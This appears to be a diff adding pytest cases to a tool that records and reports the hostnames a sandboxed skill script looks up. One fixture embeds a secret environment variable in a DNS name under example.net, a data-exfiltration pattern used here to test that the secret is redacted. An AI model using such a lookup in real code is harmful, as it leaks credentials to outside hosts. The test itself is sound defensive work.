@@ -81,6 +81,86 @@ def test_a_host_that_only_the_call_looked_up_is_named_as_such(
     )
 
 
+def test_beside_hosts_of_its_own_one_that_only_the_call_names_is_still_named_as_such(
+    write_skill: WriteSkill, workspace: Path
+) -> None:
+    both = SWALLOWS + 'BASE = "https://lamp" + ".example.net"\nsearch()\n'
+    home = write_skill(files={"scripts/x.py": both})
+
+    result = result_of(home, workspace)
+
+    assert result.looked_up == ("api.example.com", "lamp.example.net")
+    [note] = result.notes
+    assert note == (
+        "note: it wanted api.example.com, and lamp.example.net, which neither its files nor its"
+        " arguments name, and was not granted any network: `skillpouch trust demo"
+        f" --host api.example.com --host lamp.example.net --root {home.parent}`"
+    )
+
+
+LONG = """
+import socket
+for letter in "abcdefgh":
+    name = ".".join([letter * 63] * 3 + [letter * 57, "com"])
+    try:
+        socket.getaddrinfo(name, 80)
+    except OSError:
+        pass
+print("done")
+"""
+
+
+def test_only_the_first_hosts_are_told_and_the_longest_of_them_are_whole(
+    write_skill: WriteSkill, workspace: Path
+) -> None:
+    result = result_of(write_skill(files={"scripts/x.py": LONG}), workspace)
+
+    assert result.data == "done\n"
+    assert [(host[0], len(host)) for host in result.looked_up] == [(c, 253) for c in "abcde"]
+
+
+SHOUTING = """
+import os, socket
+try:
+    socket.getaddrinfo(os.environ["LAMP_TOKEN"] + ".example.net", 80)
+except OSError:
+    print("nothing")
+"""
+
+
+def test_a_secret_in_the_name_of_a_host_is_redacted(
+    write_skill: WriteSkill, workspace: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("LAMP_TOKEN", "Abra-Cadabra-17")
+    home = write_skill(files={"scripts/x.py": SHOUTING})
+    manager = SkillManager(home.parent, workspace=workspace, cache=False)
+    Grants().grant(manager.get_skill("demo"), [Need(kind="secret", value="LAMP_TOKEN")])
+
+    result = manager.call("demo.x")
+
+    assert result.looked_up == ("[redacted LAMP_TOKEN].example.net",)
+    assert "abra-cadabra" not in repr(result).lower()
+
+
+OWN_NAME = """
+import socket
+for name in (socket.gethostname(), socket.getfqdn()):
+    try:
+        socket.getaddrinfo(name, 80)
+    except OSError:
+        pass
+print("done")
+"""
+
+
+def test_a_look_at_the_name_of_the_machine_itself_has_no_note(
+    write_skill: WriteSkill, workspace: Path
+) -> None:
+    result = result_of(write_skill(files={"scripts/x.py": OWN_NAME}), workspace)
+
+    assert (result.content, result.looked_up) == ("done", ())
+
+
 LOCAL_ONLY = """
 import http.server, socket, threading, urllib.request
 server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
